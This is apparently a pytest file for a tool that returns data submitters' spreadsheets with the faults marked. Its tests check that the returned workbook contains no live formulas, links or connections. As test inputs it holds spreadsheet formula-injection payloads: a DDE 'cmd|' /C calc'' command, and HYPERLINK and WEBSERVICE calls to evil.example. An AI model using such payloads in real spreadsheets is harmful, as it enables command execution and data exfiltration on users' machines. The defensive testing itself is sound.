"""The submitter's workbook comes back with its values where they were, every fault marked, and nothing in it that
computes.
"""

import csv
import json
import time
from collections import defaultdict
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from contracts import Finding, catalogue, contracts, finding
from contracts.normalization_log import Conversion
from ingestion.normalize.table import normalize_table
from ingestion.readers.cells import a1
from ingestion.readers.tabular import read_workbook
from ingestion.receipts import SubmissionSummary, UnitSummary, workbook
from ingestion.receipts.write import write_receipt
from tests.support.answers import SAMPLES

RED, YELLOW = "FFFF9999", "FFFFE699"
DANGEROUS = ('=HYPERLINK("http://evil.example/","点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1")


def receipt(
    tmp_path: Path, original: Path, findings: list[Finding], dataset: str = "ecology", file_name: str | None = None
):
    """The workbook of a receipt, opened again."""
    submission = SubmissionSummary("S1", dataset, "2026-01-20T10:05:00+08:00")
    reporting_units = [UnitSummary("140404102", "2025", "held")]
    made = write_receipt(
        tmp_path / "receipts" / "S1",
        original=original,
        file_name=file_name or original.name,
        submission=submission,
        findings=findings,
        reporting_units=reporting_units,
        table=None,
    )
    return openpyxl.load_workbook(made.workbook)


def fault(cell: str, sheet: str | None = None, severity: str = "error", words: str = "森林面积") -> Finding:
    return finding(
        "contract.missing_value", reporting_unit="140404102", sheet=sheet, cell=cell, severity=severity, title=words
    )


def expected_findings() -> dict[str, list[Finding]]:
    """The answer key's findings of every table among the traps, by file."""
    short = {rule_id.rpartition(".")[2]: rule for rule_id, rule in catalogue().items()}
    rows: dict[str, list[Finding]] = defaultdict(list)
    with (SAMPLES / "answers" / "expected_findings.csv").open(encoding="utf-8-sig", newline="") as file:
        for row in csv.DictReader(file):
            is_layer = contracts()[row["dataset"]].is_layer
            if row["group"] == "traps" and not is_layer and row["cell_or_feature"] and row["rule"] in short:
                rule = short[row["rule"]]
                rows[row["file"]].append(
                    Finding(
                        rule.rule_id,
                        row["severity"],
                        row["message"],
                        "请改正",
                        row["message"],
                        "correct it",
                        sheet=row["sheet"] or None,
                        cell=row["cell_or_feature"],
                    )
                )
    return rows


EXPECTED = expected_findings()


def cells(sheet) -> dict[str, object]:
    return {cell.coordinate: cell.value for row in sheet.iter_rows() for cell in row if cell.value not in (None, "")}


@pytest.mark.parametrize("file", sorted(EXPECTED))
def test_every_fault_of_the_traps_is_marked_where_it_is(tmp_path, file):
    original = SAMPLES / file
    book = receipt(tmp_path, original, EXPECTED[file], original.parent.name)
    assert book.sheetnames[0] == "审核结果" and book.active.title == "审核结果"
    for one in EXPECTED[file]:
        sheet = book[one.sheet or book.sheetnames[1]]
        cell = sheet[one.cell.split(":")[0]]
        assert cell.comment is not None and one.message in cell.comment.text, one
        assert cell.fill.fgColor.rgb in (RED, YELLOW, "FFBDD7EE"), one
        assert cell.fill.fgColor.rgb == RED or one.severity != "error"
    for raw in read_workbook(original):
        filled = {
            a1(row.no, column) for row in raw.rows for column, value in enumerate(row.values, 1) if value is not None
        }
        assert filled <= set(cells(book[raw.name or book.sheetnames[1]]))


def test_the_key_has_faults_to_mark():
    assert len(EXPECTED) >= 30


@pytest.mark.parametrize(
    "name",
    [
        "clean/ecology/2025生态年报-上党.xls",
        "clean/ecology/生态状况2022（林业局报，单位亩）.csv",
        "clean/rural_waste/2023年农村生活垃圾处理季报汇总（4个季度）.xlsx",
        "clean/land_use/土地利用现状分类面积汇总表2025（最终版2）.xlsx",
        "traps/project_progress/7月月报2025（阶段与进度）.xlsx",
    ],
)
def test_a_receipt_sent_back_reads_as_the_submission_did(tmp_path, name):
    """People correct the copy with the marks in it, and submit that."""
    original = SAMPLES / name
    agreed = contracts()[original.parent.name]
    first = normalize_table(original, original.name, agreed, "S1")
    receipt(tmp_path, original, first.findings, agreed.dataset)
    copy = tmp_path / "receipts" / "S1" / f"{original.stem}-审核结果.xlsx"
    second = normalize_table(copy, copy.name, agreed, "S2")
    assert first.table.num_rows > 0
    assert second.table.drop_columns(["sheet"]).equals(first.table.drop_columns(["sheet"]))
    assert [(one.rule_id, one.cell) for one in second.findings] == [(one.rule_id, one.cell) for one in first.findings]


@pytest.mark.parametrize(
    "name",
    [
        "ecology/2025生态年报-上党.xls",
        "ecology/生态状况2022（林业局报，单位亩）.csv",
        "land_use/上党区2022年度土地利用现状分类面积汇总表.xls",
    ],
)
def test_xls_and_csv_keep_their_addresses(tmp_path, name):
    original = SAMPLES / "clean" / name
    book = receipt(tmp_path, original, [fault("C7")], Path(name).parent.name)
    raw = read_workbook(original)[0]
    sheet = book[book.sheetnames[1]]
    assert sheet["C7"].fill.fgColor.rgb == RED
    for row in raw.rows:
        for column, value in enumerate(row.values, 1):
            shown = sheet.cell(row.no, column).value
            assert shown == value or str(shown) == str(value) or float(shown) == float(value)


def test_a_period_in_a_csv_is_not_turned_into_a_number(tmp_path):
    original = tmp_path / "a.csv"
    original.write_text("月份,代码,面积\n2024.10,0101,98.05\n", encoding="utf-8")
    sheet = receipt(tmp_path, original, [fault("C2")])["a"]
    assert [sheet[address].value for address in ("A2", "B2", "C2")] == ["2024.10", "0101", 98.05]


def assert_no_formula(book, places: dict[str, str]) -> None:
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    for address, text in places.items():
        cell = book[book.sheetnames[1]][address]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), address


def test_text_of_a_workbook_never_becomes_a_formula(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    for number, text in enumerate(DANGEROUS, start=1):
        sheet.cell(number, 1).value = text
        sheet.cell(number, 1).data_type = "s"
    sheet["C1"] = "=1+1"
    sheet["C2"] = '=WEBSERVICE("http://evil.example/")'
    book.save(tmp_path / "a.xlsx")
    wrong = finding(
        "normalize.text_in_numeric",
        reporting_unit="=cmd|'x'!A1",
        sheet="Sheet",
        cell="A1",
        found=DANGEROUS[0],
        title="+森林",
    )
    seen = receipt(tmp_path, tmp_path / "a.xlsx", [wrong])
    places = {f"A{number}": text for number, text in enumerate(DANGEROUS, start=1)}
    assert_no_formula(seen, places | {"C1": "=1+1", "C2": '=WEBSERVICE("http://evil.example/")'})
    assert DANGEROUS[0] in {cell.value for row in seen["审核结果"].iter_rows() for cell in row}


def test_text_of_a_csv_never_becomes_a_formula(tmp_path):
    original = tmp_path / "=1+1.csv"
    with original.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["乡镇"], *([text] for text in DANGEROUS)])
    seen = receipt(tmp_path, original, [fault("A2")])
    assert_no_formula(
        seen,
        {f"A{number}": text.strip() for number, text in enumerate(DANGEROUS, start=2) if not text.startswith("\t")},
    )


def test_names_of_files_and_sheets_and_comments_stay_text(tmp_path):
    """A sheet called like a formula, a comment with one, a file name with one: what the receipt writes of them is text
    and plain links.
    """
    book = openpyxl.Workbook()
    book.active.title = "=1+1|cmd'!A0"[:31].replace("|", "").replace("'", "’")
    book.active["A1"] = 5
    book.active["A1"].comment = Comment("=WEBSERVICE(1)", "=2+2")
    book.save(tmp_path / "=HYPERLINK(1).xlsx")
    seen = receipt(tmp_path, tmp_path / "=HYPERLINK(1).xlsx", [fault("A1", book.active.title)])
    assert_no_formula(seen, {})
    links = [cell.hyperlink for row in seen["审核结果"].iter_rows() for cell in row if cell.hyperlink]
    assert [(link.target, link.location) for link in links] == [(None, f"'{book.active.title}'!A1")]
    assert "=WEBSERVICE(1)" in seen.worksheets[1]["A1"].comment.text


def test_a_computed_formula_leaves_its_value(tmp_path):
    original = SAMPLES / "clean" / "ecology" / "上党区2023年生态状况年报.xlsx"
    source = openpyxl.load_workbook(original)
    formulas = [cell for row in source.worksheets[0].iter_rows() for cell in row if cell.data_type == "f"]
    computed = openpyxl.load_workbook(original, data_only=True).worksheets[0]
    seen = receipt(tmp_path, original, [fault("D4", "生态年报")])["生态年报"]
    assert all(seen[cell.coordinate].value == computed[cell.coordinate].value for cell in formulas)
    assert seen["D4"].value == source.worksheets[0]["D4"].value


def test_links_connections_and_conditional_formats_are_left_out(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "乡镇"
    sheet["A1"].hyperlink = "file://evil.example/share"
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=["LEN(A1)>0"]))
    book.defined_names["evil"] = DefinedName("evil", attr_text="[1]Sheet1!$A$1")
    book.defined_names["worse"] = DefinedName("worse", attr_text='WEBSERVICE("//evil.example/"&Sheet!$A$1)')
    book.defined_names["good"] = DefinedName("good", attr_text="Sheet!$A$1")
    for formula in ('WEBSERVICE("//evil.example")', "cmd|'/C calc'!A0", "[1]Sheet1!$A$1", '"是,否"', "Sheet!$A$1:$A$9"):
        sheet.add_data_validation(DataValidation(type="list", formula1=formula, sqref="B2"))
    days = DataValidation(
        type="date", operator="between", formula1="DATE(1990,1,1)", formula2="DATE(2100,12,31)", sqref="C2"
    )
    sheet.add_data_validation(days)
    book.save(tmp_path / "a.xlsx")
    seen = receipt(tmp_path, tmp_path / "a.xlsx", [])
    assert [one.formula1 for one in seen["Sheet"].data_validations.dataValidation] == [
        '"是,否"',
        "Sheet!$A$1:$A$9",
        "DATE(1990,1,1)",
    ]
    assert seen["Sheet"]["A1"].hyperlink is None and len(seen["Sheet"].conditional_formatting) == 0
    assert list(seen.defined_names) == ["good"]


def test_the_list_links_to_the_cells(tmp_path):
    original = SAMPLES / "traps" / "ecology" / "生态年报（保护湿地大于湿地）.xlsx"
    sheet = receipt(tmp_path, original, [fault("F9", "Sheet1"), fault("C5", "Sheet1", "warning", "湿地面积")])[
        "审核结果"
    ]
    places = [(cell.value, cell.hyperlink.location) for cell in sheet["D"] if cell.hyperlink]
    assert places == [("Sheet1!F9", "'Sheet1'!F9"), ("Sheet1!C5", "'Sheet1'!C5")]
    assert [cell.value for cell in sheet["A"] if cell.fill.fgColor.rgb in (RED, YELLOW)] == ["须改正", "请核实"]


def test_findings_of_one_cell_share_a_comment_and_keep_the_submitters(tmp_path):
    book = openpyxl.Workbook()
    book.active["B2"] = 5
    book.active["B2"].comment = Comment("去年也是 5", "张三")
    book.save(tmp_path / "a.xlsx")
    findings = [fault("B2", "Sheet", "warning", "甲"), fault("B2", "Sheet", "error", "乙")]
    cell = receipt(tmp_path, tmp_path / "a.xlsx", findings)["Sheet"]["B2"]
    assert cell.fill.fgColor.rgb == RED
    remedy = "请填写后重新报送；有合计行的，合计一并改正。"
    remedy += "〔contract.missing_value〕"
    assert (
        cell.comment.text == f"【须改正】乙没有填。\n{remedy}\n【请核实】甲没有填。\n{remedy}\n（原有批注）去年也是 5"
    )


def test_a_range_is_coloured_and_a_merged_one_marked_where_it_shows(tmp_path):
    book = openpyxl.Workbook()
    book.active["E2"] = 1
    book.active.merge_cells("E2:E3")
    book.save(tmp_path / "a.xlsx")
    sheet = receipt(tmp_path, tmp_path / "a.xlsx", [fault("B2:C3", "Sheet"), fault("E3", "Sheet", words="湿地面积")])[
        "Sheet"
    ]
    assert [sheet[address].fill.fgColor.rgb for address in ("B2", "C2", "B3", "C3", "E2")] == [RED] * 5
    assert "湿地面积没有填" in sheet["E2"].comment.text


def test_a_very_long_message_is_cut(tmp_path):
    book = openpyxl.Workbook()
    book.save(tmp_path / "a.xlsx")
    sheet = receipt(tmp_path, tmp_path / "a.xlsx", [fault("B2", "Sheet", words="长" * 5000)])["Sheet"]
    assert len(sheet["B2"].comment.text) == workbook.COMMENT_CHARACTERS


def test_a_sheet_of_the_same_name_stays_and_an_earlier_receipt_goes(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "审核结果"
    book.active["A1"] = "我们自己的表"
    book.save(tmp_path / "a.xlsx")
    seen = receipt(tmp_path, tmp_path / "a.xlsx", [fault("A1", "审核结果")])
    assert seen.sheetnames == ["审核结果2", "审核结果"]
    seen.save(tmp_path / "corrected.xlsx")
    again = receipt(tmp_path, tmp_path / "corrected.xlsx", [])
    assert again.sheetnames == ["审核结果2", "审核结果"]
    assert again["审核结果"]["A1"].value == "我们自己的表"
    assert again["审核结果"]["A1"].comment is None and again["审核结果"]["A1"].fill.fill_type is None


@pytest.mark.parametrize(
    ("limit", "name"),
    [
        ("LARGEST_BYTES", "traps/ecology/生态年报（保护湿地大于湿地）.xlsx"),
        ("LARGEST_UNZIPPED_BYTES", "traps/ecology/生态年报（保护湿地大于湿地）.xlsx"),
        ("LARGEST_CELLS", "clean/ecology/2025生态年报-上党.xls"),
    ],
)
def test_what_is_too_large_comes_back_as_a_list(tmp_path, monkeypatch, limit, name):
    monkeypatch.setattr(workbook, limit, 80)
    original = SAMPLES / name
    seen = receipt(tmp_path, original, [fault("F9", "Sheet1")])
    assert seen.sheetnames == ["审核结果"]
    assert "Sheet1!F9" in {cell.value for cell in seen["审核结果"]["D"]}


def test_a_small_workbook_is_quick(tmp_path):
    original = SAMPLES / "traps" / "ecology" / "生态年报（保护湿地大于湿地）.xlsx"
    taken = []
    for _ in range(3):
        began = time.process_time()
        receipt(tmp_path, original, [fault("F9", "Sheet1")])
        taken.append(time.process_time() - began)
    assert min(taken) < 0.2


def test_conversions_have_a_sheet_of_their_own_in_which_nothing_computes(tmp_path):
    path = SAMPLES / "clean" / "ecology" / "2025生态年报-上党.xls"
    conversions = (
        Conversion("Sheet1", "B4:B13", "land_area_ha", "unit_of_column", "亩", "公顷（÷15）", 10),
        Conversion("Sheet1", "A5", "township_code", "look_alike", "\u2ec4火镇", "140404103"),
        *(Conversion(None, "C5", "forest_area_ha", "text_number", danger, danger) for danger in DANGEROUS),
    )
    submission = SubmissionSummary("S1", "ecology", "2026-01-20T10:05:00+08:00", converted=9, conversions=conversions)
    made = write_receipt(
        tmp_path / "receipts" / "S1",
        original=path,
        file_name=path.name,
        submission=submission,
        findings=[],
        reporting_units=[],
        table=None,
    )
    book = openpyxl.load_workbook(made.workbook)
    assert book.sheetnames[:3] == ["审核结果", "自动规范", "Sheet1"]
    sheet = book["自动规范"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows(max_row=3)] == [
        ["工作表", "单元格", "列", "原样", "取值", "说明"],
        ["Sheet1", "B4:B13", "土地总面积", "亩", "公顷（÷15）", "整列由所写单位换算（10 格）"],
        ["Sheet1", "A5", "乡镇代码", "\u2ec4火镇［含 U+2EC4（不是“西”）］", "140404103", "形近字符按规范字读取"],
    ]
    dangerous = [cell for row in sheet.iter_rows(min_row=4, max_row=8, min_col=4, max_col=5) for cell in row]
    assert [cell.value for cell in dangerous] == [danger for danger in DANGEROUS for _ in range(2)]
    assert {(cell.data_type, cell.quotePrefix) for cell in dangerous} == {("s", True)}
    assert sheet["A4"].value == "Sheet1"  # of a sheet without a name: the workbook's own
    assert sheet["A9"].value == "共 9 处，只列出前 7 处"

    document = json.loads(made.document.read_text(encoding="utf-8"))
    assert document["converted"] == 9 and len(document["conversions"]) == 7
    assert document["conversions"][0] == {
        "sheet": "Sheet1",
        "cell": "B4:B13",
        "feature": None,
        "field": "land_area_ha",
        "kind": "unit_of_column",
        "written": "亩",
        "taken": "公顷（÷15）",
        "cells": 10,
        "message": "整列由所写单位换算",
        "message_en": "the whole column converted from its unit",
    }
    assert "【自动规范】9 处，见“自动规范”表和 receipt.json。\n" in made.text.read_text(encoding="utf-8")
    assert receipt(tmp_path, made.workbook, []).sheetnames == [
        "审核结果",
        "Sheet1",
    ]  # it comes back, and there is nothing to convert
